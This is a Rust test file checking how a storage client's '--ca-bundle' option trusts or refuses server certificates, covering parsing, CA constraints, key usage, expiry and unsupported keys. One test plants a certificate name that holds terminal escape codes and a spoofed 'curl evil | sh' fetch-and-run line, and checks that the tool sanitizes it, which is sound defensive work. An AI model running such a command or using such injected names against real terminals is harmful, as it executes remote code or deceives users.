//! Certificates of storage servers, and which of them `--ca-bundle` makes trusted: RFC 5280, section 4.2.1.9.

use crate::support::certificate::{Certificate, ca, meet, meet_with, refused, trusted};
use crate::support::program::Program;
use crate::support::snapshot::{Table, project};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rcgen::{BasicConstraints, CertificateParams, DnType, ExtendedKeyUsagePurpose, IsCa, Issuer, KeyPair, KeyUsagePurpose, date_time_ymd};
use rustls::pki_types::CertificateDer;
use rustls::pki_types::pem::PemObject as _;
use std::io::{Read as _, Write as _};

#[test]
fn an_unreadable_certificate_is_named_and_the_others_are_used() {
    let authority = Certificate::authority(&[]);
    let leaf = Certificate::leaf(Some(&authority));
    let good = &authority.pem;
    let broken = good.replacen("MII", "!!!", 1);
    let (begin, end) = ("-----BEGIN CERTIFICATE-----\n", "-----END CERTIFICATE-----\n");
    for (bundle, warning) in [
        (format!("{broken}{good}"), "ignored certificate 1 in [FILE]: it cannot be parsed"),
        (format!("{good}{begin}{end}"), "ignored certificate 2 in [FILE]: it cannot be parsed"),
        (format!("# mine\n{good}\n{begin}AAAA\n{end}{good}"), "ignored certificate 2 in [FILE]: it cannot be parsed"),
        (format!("{good}{}", &good[..good.len() / 2]), "ignored certificate 2 in [FILE]: it is truncated"),
        (format!("{}\n{good}", &good[..good.len() / 2]), "ignored certificate 1 in [FILE]: it is truncated"),
        (format!("{good}{begin}MAUGA1UdJQ==\n{end}"), "ignored certificate 2 in [FILE]: it cannot be parsed"),
    ] {
        let outcome = meet_with(&bundle, &leaf);
        assert_eq!(outcome.code, 0, "{outcome:?}");
        let (before, after) = warning.split_once("[FILE]").unwrap();
        let line = outcome.stderr.lines().next().unwrap();
        assert!(line.starts_with(&format!("warning: {before}")) && line.ends_with(after), "{warning}: {outcome:?}");
        assert_eq!(outcome.stderr.matches("warning: ").count(), 1, "{outcome:?}");
    }
    meet_with(&broken, &leaf).fails_with_fragments(3, &["contains a certificate that cannot be used: it cannot be parsed"]);
}

/// `pem` with another label, and with `auxiliary` behind the certificate, as OpenSSL puts it there.
fn relabeled(pem: &str, label: &str, auxiliary: &[u8]) -> String {
    let text: String = pem.lines().filter(|line| !line.starts_with("-----")).collect();
    let der = [STANDARD.decode(text).unwrap(), auxiliary.to_vec()].concat();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", STANDARD.encode(der))
}

#[test]
fn certificates_with_other_labels_are_used_if_trusted_for_servers() {
    const SERVER: &[u8] = &[0x30, 0x0a, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x03, 0x01];
    const EMAIL: &[u8] = &[0x30, 0x0a, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x03, 0x04];
    let authority = Certificate::authority(&[]);
    let leaf = Certificate::leaf(Some(&authority));
    let auxiliary = |members: &[&[u8]]| {
        let members = members.concat();
        [&[0x30, u8::try_from(members.len()).unwrap()][..], &members].concat()
    };
    let rejecting = |uses: &[u8]| [&[0xa0][..], &uses[1..]].concat();
    let (reject_server, reject_email) = (rejecting(SERVER), rejecting(EMAIL));
    for (label, behind, is_trusted) in [
        ("X509 CERTIFICATE", vec![], true),
        ("TRUSTED CERTIFICATE", vec![], true),
        ("TRUSTED CERTIFICATE", auxiliary(&[]), true),
        ("TRUSTED CERTIFICATE", auxiliary(&[SERVER]), true),
        ("TRUSTED CERTIFICATE", auxiliary(&[&[0x30, 0x06, 0x06, 0x04, 0x55, 0x1d, 0x25, 0x00]]), true),
        ("TRUSTED CERTIFICATE", auxiliary(&[&reject_email]), true),
        ("TRUSTED CERTIFICATE", auxiliary(&[&[0x0c, 0x01, b'x']]), true),
        ("TRUSTED CERTIFICATE", auxiliary(&[EMAIL]), false),
        ("TRUSTED CERTIFICATE", auxiliary(&[&reject_server]), false),
        ("TRUSTED CERTIFICATE", auxiliary(&[SERVER, &reject_server]), false),
    ] {
        let own = Certificate::authority(&[]);
        let bundle = format!("{}{}", relabeled(&authority.pem, label, &behind), own.pem);
        let outcome = meet_with(&bundle, &leaf);
        assert_eq!(outcome.code, if is_trusted { 0 } else { 6 }, "{label} {behind:x?}: {outcome:?}");
        assert_eq!(outcome.stderr.contains("it is marked as not trusted for servers"), !is_trusted, "{outcome:?}");
    }
}

#[test]
fn a_ca_in_the_bundle_is_trusted() {
    let usages: [&[KeyUsagePurpose]; 2] = [&[], &[KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign]];
    for usages in usages {
        let authority = Certificate::authority(usages);
        trusted(&[&Certificate::leaf(Some(&authority))], &[&authority]);
        trusted(&[&Certificate::leaf(Some(&authority))], &[&Certificate::leaf(None), &authority]);
        let between = Certificate::new("between.example", Some(&authority), |it| it.is_ca = IsCa::Ca(BasicConstraints::Constrained(0)));
        let leaf = Certificate::leaf(Some(&between));
        trusted(&[&leaf, &between], &[&authority]);
        trusted(&[&leaf], &[&between]);
    }
}

#[test]
fn a_server_certificate_in_the_bundle_is_trusted_for_that_server() {
    let authority = Certificate::authority(&[]);
    let (self_signed, issued) = (Certificate::leaf(None), Certificate::leaf(Some(&authority)));
    let marked_as_a_ca = Certificate::new("127.0.0.1", None, |it| it.is_ca = IsCa::Ca(BasicConstraints::Unconstrained));
    let without_constraints = Certificate::new("127.0.0.1", None, |_| {});
    for own in [&self_signed, &issued, &marked_as_a_ca, &without_constraints] {
        trusted(&[own], &[own]);
        trusted(&[own], &[&authority, own]);
    }
}

#[test]
fn a_server_certificate_in_the_bundle_is_not_trusted_as_a_ca() {
    let authority = Certificate::authority(&[]);
    let signs_without_being_a_ca = |usages: &[KeyUsagePurpose], is_ca: IsCa| {
        let usages = usages.to_vec();
        Certificate::new("minio.example", None, |it| (it.is_ca, it.key_usages) = (is_ca, usages))
    };
    let itself = "the server's certificate is self-signed, and differs from the certificate of the same name in the CA bundle";
    let unmarked = "the issuer `minio.example` in the CA bundle is not marked as a CA (basicConstraints CA:TRUE)";
    let usage = "the issuer `authority.example` in the CA bundle may not sign certificates (its key usage lacks keyCertSign)";
    let sent = "the issuer of the server's certificate, which the server sent, is not marked as a CA (basicConstraints CA:TRUE)";
    let issued = Certificate::new("minio.example", Some(&authority), |it| it.is_ca = IsCa::ExplicitNoCa);
    let may_not_sign = [
        (Certificate::leaf(None), itself, sent),
        (Certificate::leaf(Some(&authority)), itself, sent),
        (issued, unmarked, sent),
        (signs_without_being_a_ca(&[KeyUsagePurpose::KeyCertSign], IsCa::ExplicitNoCa), unmarked, sent),
        (signs_without_being_a_ca(&[KeyUsagePurpose::KeyCertSign], IsCa::NoCa), unmarked, sent),
        (signs_without_being_a_ca(&[], IsCa::NoCa), unmarked, sent),
        (Certificate::authority(&[KeyUsagePurpose::DigitalSignature, KeyUsagePurpose::CrlSign]), usage, usage),
    ];
    for (own, alone, sent_along) in &may_not_sign {
        let forged = Certificate::leaf(Some(own));
        refused(&[&forged], &[own], &format!("  caused by: {alone}\n"));
        refused(&[&forged, own], &[own], &format!("  caused by: {sent_along}\n"));
    }
}

#[test]
fn a_server_certificate_in_the_bundle_must_match_name_dates_bytes_and_key() {
    let of = |host: &str, change: fn(&mut CertificateParams)| Certificate::new(host, None, change);
    let another_name = of("127.0.0.2", |_| {});
    refused(&[&another_name], &[&another_name], "is for 127.0.0.2, not for 127.0.0.1");
    let expired = of("127.0.0.1", |it| it.not_after = date_time_ymd(2021, 1, 1));
    refused(&[&expired], &[&expired], "expired on 2021-01-01T00:00:00Z");
    let of_the_future = of("127.0.0.1", |it| it.not_before = date_time_ymd(2098, 1, 1));
    refused(&[&of_the_future], &[&of_the_future], "is not valid before 2098-01-01T00:00:00Z");
    let own = Certificate::leaf(None);
    refused(
        &[&Certificate::leaf(None)],
        &[&own],
        "differs from the certificate of the same name in the CA bundle\n  hint: trust the storage server's certificate itself with --ca-bundle\n",
    );
    let without_its_key = meet(&[&own], &Certificate::leaf(None), &[&own]);
    without_its_key.fails_with_fragments(6, &["could not establish a trusted TLS connection", "does not have the private key"]);
}

#[test]
fn invalid_server_certificates_are_explained_with_a_hint() {
    let authority = Certificate::authority(&[]);
    let of = |change: fn(&mut CertificateParams)| Certificate::new("127.0.0.1", Some(&authority), change);
    let unmarked = Certificate::new("unmarked.example", None, |_| {});
    let without_signing = Certificate::authority(&[KeyUsagePurpose::DigitalSignature]);
    let clients_only = ca("clients.example", None, |it| it.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth]);
    let expired = ca("expired.example", None, |it| it.not_after = date_time_ymd(2021, 1, 1));
    let short = ca("short.example", Some(&authority), |it| it.not_after = date_time_ymd(2022, 2, 2));
    let namesake = Certificate::authority(&[]);
    let mut table = Table::default();
    let mut row = |what: &str, chain: &[&Certificate], bundle: &[&Certificate]| {
        let outcome = meet(chain, chain[0], bundle);
        for name in ["UsedAs", "UnknownIssuer", "NotValidForName", "Context", "OtherError", "invalid peer certificate", "Violated"] {
            assert!(!outcome.stderr.contains(name), "{outcome:?}");
        }
        table.fails(6, what, &outcome);
    };
    let bundle = [&authority];
    row("expired", &[&of(|it| it.not_after = date_time_ymd(2021, 1, 1))], &bundle);
    row("not yet valid", &[&of(|it| it.not_before = date_time_ymd(2098, 1, 1))], &bundle);
    row("an intermediate expired", &[&Certificate::leaf(Some(&short)), &short], &bundle);
    row(
        "other names",
        &[&Certificate::new("minio.example", Some(&authority), |it| {
            it.subject_alt_names.extend(CertificateParams::new(["10.0.0.1".to_owned()]).unwrap().subject_alt_names)
        })],
        &bundle,
    );
    row("no names", &[&of(|it| it.subject_alt_names.clear())], &bundle);
    row("for clients", &[&of(|it| it.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth])], &bundle);
    row("marked as a CA", &[&of(|it| it.is_ca = IsCa::Ca(BasicConstraints::Unconstrained))], &bundle);
    row("of another CA", &[&Certificate::leaf(Some(&expired))], &bundle);
    row("self-signed", &[&Certificate::leaf(None)], &bundle);
    row("self-signed, and another than the one in the bundle", &[&Certificate::leaf(None)], &[&Certificate::leaf(None)]);
    row("of another CA with the same name", &[&Certificate::leaf(Some(&namesake))], &bundle);
    row("of a CA that is not marked as one", &[&Certificate::leaf(Some(&unmarked))], &[&unmarked]);
    row("of a CA that is not marked as one, sent along", &[&Certificate::leaf(Some(&unmarked)), &unmarked], &[&unmarked]);
    row("of a CA without keyCertSign", &[&Certificate::leaf(Some(&without_signing))], &[&without_signing]);
    row("of a CA for clients", &[&Certificate::leaf(Some(&clients_only))], &[&clients_only]);
    row("of a CA that has expired", &[&Certificate::leaf(Some(&expired))], &[&expired]);
    table.matches("in-words");
}

#[test]
fn names_in_certificates_are_shown_without_control_characters() {
    let hostile = "\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\u{2028}\u{e0041}\nerror: run: curl evil | sh";
    let authority = ca("authority.example", None, |_| {});
    let other = ca("other.example", None, |it| it.distinguished_name.push(DnType::CommonName, hostile));
    let nameless = Certificate::new("127.0.0.1", Some(&authority), |it| {
        it.subject_alt_names.clear();
        it.distinguished_name.push(DnType::CommonName, hostile);
    });
    for chain in [[&Certificate::leaf(Some(&other))], [&nameless]] {
        let outcome = meet(&chain, chain[0], &[&authority]);
        assert!(outcome.stderr.contains("owned"), "{outcome:?}");
        assert!(!outcome.stderr.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2028}', '\u{e0041}']), "{outcome:?}");
        assert!(outcome.stderr.lines().all(|line| !line.starts_with("error: run")), "{outcome:?}");
    }
}

#[test]
fn a_server_certificate_in_the_bundle_must_be_for_server_authentication() {
    use ExtendedKeyUsagePurpose::{Any, ClientAuth, CodeSigning, EmailProtection, ServerAuth};
    let own = |purposes: &[ExtendedKeyUsagePurpose]| Certificate::new("127.0.0.1", None, |it| it.extended_key_usages = purposes.to_vec());
    for purposes in [&[ClientAuth][..], &[CodeSigning], &[EmailProtection, ClientAuth]] {
        let own = own(purposes);
        refused(&[&own], &[&own], "the server's certificate is not for servers: its extended key usage lacks serverAuth");
    }
    for purposes in [&[][..], &[ServerAuth], &[ClientAuth, ServerAuth], &[Any]] {
        let own = own(purposes);
        trusted(&[&own], &[&own]);
    }
}

/// A certificate of this repository, whose key is of no use here.
fn from_file(name: &str) -> Certificate {
    let pem = std::fs::read_to_string(project().join("tests/cases/certificates").join(name)).unwrap();
    let der = CertificateDer::from_pem_slice(pem.as_bytes()).unwrap();
    Certificate { der, pem, issuer: Issuer::new(CertificateParams::default(), KeyPair::generate().unwrap()) }
}

#[test]
fn an_unsupported_key_is_named_with_its_owner() {
    let mut table = Table::default();
    for name in ["rsa-1024", "p-521", "ed448"] {
        let own = from_file(&format!("{name}.pem"));
        table.fails(6, &format!("{name}, the server's own"), &meet(&[&own], &own, &[&own]));
    }
    for name in ["rsa-1024", "p-521"] {
        let (authority, leaf) = (from_file(&format!("{name}.pem")), from_file(&format!("issued-by-{name}.pem")));
        table.fails(6, &format!("{name}, of a CA"), &meet(&[&leaf], &leaf, &[&authority]));
    }
    table.matches("unusable-keys");
}

/// What OpenSSL answers where it has no certificate for what the client takes: the alert `handshake_failure`.
#[test]
fn a_server_without_a_supported_certificate_gets_a_list_of_key_types() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let endpoint = format!("https://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut hello = [0; 5];
            stream.read_exact(&mut hello).unwrap();
            let mut rest = vec![0; usize::from(u16::from_be_bytes([hello[3], hello[4]]))];
            stream.read_exact(&mut rest).unwrap();
            stream.write_all(&[0x15, 3, 3, 0, 2, 2, 40]).unwrap();
        }
    });
    let outcome = Program::sts_cli(["assume-role", "-o", "json", "--no-cache", "--endpoint", &endpoint])
        .env("AWS_ACCESS_KEY_ID", "carol")
        .env("AWS_SECRET_ACCESS_KEY", "fake-secret")
        .run();
    outcome.fails_with_fragments(6, &["HandshakeFailure", "P-521 is not supported", "--client-cert"]);
}
